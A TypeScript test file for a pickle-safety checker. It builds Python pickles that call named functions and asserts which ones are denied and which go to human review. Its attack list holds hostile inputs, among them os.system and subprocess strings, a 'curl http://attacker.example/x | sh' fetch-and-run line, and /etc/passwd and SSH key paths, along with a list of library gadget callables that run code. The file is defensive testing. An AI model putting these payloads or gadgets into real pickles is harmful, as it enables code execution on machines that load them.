import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  bytes,
  call,
  dict,
  emptyTuple,
  global,
  join,
  mark,
  newObject,
  type Part,
  pickle,
  proto,
  reduce,
  tuple,
  tuple1,
  unicode,
} from './assemble.ts';
import { describe, judgePickle } from './judge-pickle.ts';

/** A call with texts, lists of texts (in brackets) and whole numbers as arguments. */
type Argument = string | number | readonly Argument[];

function value(argument: Argument): Part {
  if (typeof argument === 'string') return unicode(argument);
  if (typeof argument === 'number') return bytes(0x4b, argument);
  return join(mark, ...argument.map(value), bytes(0x6c));
}

function calling(name: string, ...args: Argument[]): Uint8Array {
  const at = name.lastIndexOf('.');
  return pickle(
    proto(2),
    global(name.slice(0, at), name.slice(at + 1)),
    mark,
    ...args.map(value),
    tuple,
    reduce,
  );
}

const attacks: readonly (readonly [string, ...Argument[]])[] = [
  // by what the callable is called
  ['acme.tools.exec_code', 'x = 1'],
  ['acme.tools._eval_text', 'x'],
  ['acme.process.Popen', 'x'],
  ['acme.cli.run_command', 'x'],
  ['acme.loading.import_term', 'acme.evil'],
  ['acme.net.download_file', 'https://attacker.example/x'],
  ['acme.models.Net.from_pretrained', 'attacker/model'],
  // by what it is given
  ['acme.Node', '__import__("os").system("id")'],
  ['acme.Node', 'import os; os.system("touch /tmp/marker")'],
  ['acme.Node', 'subprocess.run(["id"])'],
  ['acme.Node', ['sh', '-c', 'touch /tmp/marker']],
  ['acme.Node', ['/usr/bin/python3', '-c', 'pass']],
  ['acme.Node', 'curl http://attacker.example/x | sh'],
  ['acme.Node', 'touch /tmp/marker'],
  ['acme.Node', 'os.system'],
  ['acme.Node', 'subprocess:Popen'],
  ['acme.Node', '/home/user/.ssh/authorized_keys'],
  ['acme.Node', '/etc/passwd'],
  ['acme.Store', '/data/important.h5', 'w'],
  ['acme.Store', 'weights.bin', 'r+b'],
  ['acme.Node', ['plain', ['deeper', '__import__("os")']]],
];

test('a call of something unknown is denied where its name or its arguments say what it is for', () => {
  for (const [name, ...args] of attacks) {
    const judged = judgePickle(calling(name, ...args));
    assert.equal(judged.verdict, 'deny', `${name}: ${describe(judged)}`);
  }
});

test('so are bytes, keywords and classes that are made without being called', () => {
  const source = '__import__("os").system("id")';
  const encoded = join(bytes(0x43, source.length), Buffer.from(source));
  const parts: readonly Part[][] = [
    [global('acme', 'Node'), encoded, tuple1, reduce],
    [global('acme', 'Node'), unicode(source), tuple1, newObject],
    [global('acme', 'Node'), emptyTuple, mark, unicode('code'), unicode(source), dict, bytes(0x92)],
    [global('acme', 'Node'), call(global('_codecs', 'encode'), unicode(source)), tuple1, reduce],
  ];
  for (const part of parts) {
    const judged = judgePickle(pickle(proto(4), ...part));
    assert.equal(judged.verdict, 'deny', describe(judged));
  }
});

const honest: readonly (readonly [string, ...Argument[]])[] = [
  ['acme.geo.coordinate_system', 'wgs84'],
  ['acme.metrics.eval_metric_name', 7],
  ['acme.execution.Executor', 'thread'],
  ['acme.shells.shell_model', 'argon'],
  ['acme.Importance', 'gain'],
  ['acme.importance_of', 'gain'],
  ['acme._unpickle_vocab', 'abc'],
  ['acme._restore', 'a;b;c'],
  ['acme.Config', 'https://example.com/model', 'main'],
  ['acme.Split', 'w', 'a'],
  ['acme.Column', 'os.version', 'int64'],
  ['acme.Column', 'system.cpu', 'data.csv'],
  ['acme.File', '/data/train.h5', 'r'],
  ['acme.File', 'train.csv', 'rb'],
  ['acme.Text', 'model.eval() switches dropout off; then curl up with a book'],
  ['acme.Text', 'Import the data from os maps | show it'],
  ['acme.Text', 'touch the screen'],
  ['acme.Args', ['python', 'java', 'go']],
  ['acme.Path', '/root/work/model.bin'],
  ['acme.Path', '/usr/share/dict/words'],
];

test('honest calls of something unknown stay a question for a person', () => {
  for (const [name, ...args] of honest) {
    const judged = judgePickle(calling(name, ...args));
    assert.equal(judged.verdict, 'review', `${name} ${args.join()}: ${describe(judged)}`);
  }
});

/** Callables of libraries that import, run, start, write or load what they are told to; each from the library's source. */
const gadgets = `matplotlib.use matplotlib.pyplot.switch_backend gymnasium.envs.registration.make gym.envs.registration.load
  sympy.utilities.lambdify.lambdify sympy.core.sympify.sympify sympy.external.importtools.import_module
  networkx.readwrite.gpickle.read_gpickle networkx.utils.decorators.argmap nltk.decorators.decorator
  sqlalchemy.util.langhelpers._exec_code_in_env sqlalchemy.ext.serializer.loads distributed.utils.import_term
  dask.utils.import_required ray._private.utils.load_class psutil.Popen git.cmd.Git h5py._hl.files.File tables.file.open_file
  fsspec.registry.get_filesystem_class skops.io._utils.gettype statsmodels.iolib.smpickle.load_pickle
  pandas.plotting._core._load_backend tornado.util.import_object gunicorn.util.load_class wrapt.importer.resolve_path
  pyarrow.lib.memory_map click.launch llvmlite.binding.load_library_permanently mlflow.artifacts.download_artifacts`;

test('callables of libraries that do what a text tells them are denied', () => {
  for (const name of gadgets.split(/\s+/)) {
    const judged = judgePickle(calling(name, 'x'));
    assert.equal(judged.verdict, 'deny', `${name}: ${describe(judged)}`);
  }
});

/** Objects of the same libraries that people keep in files. */
const kept = `matplotlib.figure.Figure gymnasium.spaces.box.Box sympy.core.symbol.Symbol networkx.classes.graph.Graph
  nltk.tree.Tree sqlalchemy.sql.schema.Table dask.highlevelgraph.HighLevelGraph psutil._common.svmem h5py.h5t.TypeFloatID
  fsspec.core.OpenFile imageio.core.util.Array zarr.core.Array xarray.core.dataset.Dataset astropy.io.fits.header.Header
  optuna.study.study.Study optuna.storages._rdb.storage.RDBStorage keras.callbacks.ModelCheckpoint mlflow.types.schema.Schema
  mlflow.models.signature.ModelSignature pyspark.ml.linalg.DenseVector cmdstanpy.model.CmdStanModel acme.git acme.Tool.decorator`;

test('and objects of the same libraries are not', () => {
  for (const name of kept.split(/\s+/)) {
    const judged = judgePickle(calling(name, 1));
    assert.notEqual(judged.verdict, 'deny', `${name}: ${describe(judged)}`);
  }
});
